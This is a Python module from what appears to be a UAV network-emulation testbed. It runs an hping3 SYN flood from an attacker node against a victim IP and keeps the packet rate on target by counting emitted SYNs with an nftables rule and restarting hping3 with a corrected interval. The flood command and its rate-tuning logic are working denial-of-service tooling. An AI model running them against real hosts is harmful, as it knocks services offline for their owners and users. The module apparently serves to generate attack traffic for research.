"""hping3 SYN flood with closed-loop rate calibration and an exact SYN counter.

`hping3 -i uN` sleeps N us *between* packets and then pays its own per-packet overhead, so the
real rate is 1e6 / (N + overhead): on this kernel `-i u1000` gives ~900 pps and the overhead
varies with load (EMULATION-NOTES section 5). We therefore
1. start with N = 1e6 / nominal - overhead (the last overhead measured in this process, or a
   prior), count the SYNs the attacker actually emits with an nft counter on its OUTPUT hook
   (raw-socket packets traverse LOCAL_OUT, so the count is exact, and the benign server
   traffic of the same UAV never matches: it does not send SYNs to the victim's port);
2. after `CALIBRATE_AFTER_S`, then every `CALIBRATE_EVERY_S`, compare the rate since the last
   check with the nominal one and, if it is off by more than `TOLERANCE`, restart hping3 with
   the corrected interval (a gap of a few ms; the load on the cores changes during a run);
3. at stop, log the measured rate over the whole attack (`rate` record of attacks.jsonl).
"""

from __future__ import annotations

import json
import re
import signal
import time
from dataclasses import dataclass, field
from pathlib import Path

from .procs import Proc, spawn

OVERHEAD_PRIOR_US = 170.0  # measured here: u900 -> ~910 pps, u833 -> ~1008 pps
CALIBRATE_AFTER_S = 1.0  # first check; then every CALIBRATE_EVERY_S (the overhead drifts with load)
CALIBRATE_EVERY_S = 2.0
TOLERANCE = 0.03
MIN_INTERVAL_US = 1
_learned_overhead_us: list[float] = []  # per process: later floods start closer to the target


def hping_interval_us(nominal_pps: float, overhead_us: float) -> int:
    return max(MIN_INTERVAL_US, round(1e6 / nominal_pps - overhead_us))


def overhead_from(interval_us: int, measured_pps: float) -> float:
    return max(0.0, 1e6 / measured_pps - interval_us) if measured_pps > 0 else OVERHEAD_PRIOR_US


def current_overhead_us() -> float:
    return sorted(_learned_overhead_us)[len(_learned_overhead_us) // 2] if _learned_overhead_us else OVERHEAD_PRIOR_US


def table_name(attack_id: str) -> str:
    return "uavcas_f_" + re.sub(r"[^A-Za-z0-9_]", "_", attack_id)


def counter_ruleset(table: str, victim_ip: str, port: int) -> str:
    return (f"table ip {table} {{\n"
            f"  counter syn {{ }}\n"
            f"  chain out {{ type filter hook output priority 0; policy accept;\n"
            f"    ip daddr {victim_ip} tcp dport {port} tcp flags & (syn | ack) == syn counter name syn\n"
            f"  }}\n}}\n")


def parse_counter(nft_json: str) -> int:
    for item in json.loads(nft_json).get("nftables", []):
        if "counter" in item:
            return int(item["counter"]["packets"])
    raise ValueError("no counter in nft output")


@dataclass
class FloodResult:
    attacker: str
    victim_ip: str
    nominal_pps: float
    hping_interval_us: int
    syn_count: int
    seconds: float
    restarts: int
    intervals_us: list[int] = field(default_factory=list)

    @property
    def measured_pps(self) -> float:
        return self.syn_count / self.seconds if self.seconds > 0 else 0.0


class Flood:
    """One attacker's SYN flood. `emu` is the running Emulation (popen/run in a node)."""

    def __init__(self, emu, attack_id: str, attacker: str, victim_ip: str, nominal_pps: float,
                 log_dir: Path, max_s: float, port: int = 80) -> None:
        self.emu, self.attacker, self.victim_ip, self.port = emu, attacker, victim_ip, port
        self.nominal_pps = float(nominal_pps)
        self.table = table_name(attack_id)
        self.log_dir, self.max_s = log_dir, max_s
        self.proc: Proc | None = None
        self.interval_us = hping_interval_us(self.nominal_pps, current_overhead_us())
        self.intervals: list[int] = []
        self.t_start = 0.0
        self.restarts = 0
        self.old: list[Proc] = []  # replaced hping3 processes, reaped at stop
        self._last = (0.0, 0)

    def _nft(self, *args: str, input_text: str | None = None) -> str:
        r = self.emu.run(self.attacker, ["nft", *args], timeout_s=10, input=input_text)
        if r.returncode != 0:
            raise RuntimeError(f"nft {' '.join(args)} in {self.attacker}: {r.stderr.strip()}")
        return r.stdout

    def count(self) -> int:
        return parse_counter(self._nft("-j", "list", "counter", "ip", self.table, "syn"))

    def _spawn(self) -> None:
        self.intervals.append(self.interval_us)
        argv = ["hping3", "-S", "-p", str(self.port), "-i", f"u{self.interval_us}", "-q", self.victim_ip]
        name = f"hping3-{self.table}-{self.attacker}-{len(self.intervals)}"
        left = max(1.0, self.max_s - (time.time() - self.t_start if self.t_start else 0.0))
        self.proc = spawn(lambda a, t, **kw: self.emu.popen(self.attacker, a, t, **kw), name, argv, self.log_dir, left)

    def start(self) -> None:
        self._nft("-f", "-", input_text=counter_ruleset(self.table, self.victim_ip, self.port))
        self.t_start = time.time()
        self._last = (self.t_start, 0)
        self._spawn()

    def calibrate(self) -> None:
        """Called every CALIBRATE_EVERY_S: correct the interval from the rate since the last check.

        The old hping3 gets SIGINT and is reaped at stop (no waiting here: the schedule must not
        slip); the new one starts at once, so the gap is a few milliseconds.
        """
        now, n = time.time(), self.count()
        t_prev, n_prev = self._last
        self._last = (now, n)
        if self.proc is None or now - t_prev <= 0.2:
            return
        pps = (n - n_prev) / (now - t_prev)
        oh = overhead_from(self.interval_us, pps)
        _learned_overhead_us.append(oh)
        if abs(pps - self.nominal_pps) / self.nominal_pps > TOLERANCE:
            new = hping_interval_us(self.nominal_pps, oh)
            if new != self.interval_us:
                self.proc.popen.send_signal(signal.SIGINT)
                self.old.append(self.proc)
                self.interval_us = new
                self.restarts += 1
                self._spawn()

    def stop(self) -> FloodResult:
        for p in [*self.old, self.proc]:
            if p is not None:
                p.stop(signal.SIGINT, grace_s=2.0)
        seconds = time.time() - self.t_start
        try:
            n = self.count()
        finally:
            self._nft("delete", "table", "ip", self.table)
        if seconds > 2 * CALIBRATE_AFTER_S and n:
            _learned_overhead_us.append(overhead_from(self.interval_us, n / seconds))
        return FloodResult(self.attacker, self.victim_ip, self.nominal_pps, self.interval_us, n, seconds,
                           self.restarts, list(self.intervals))
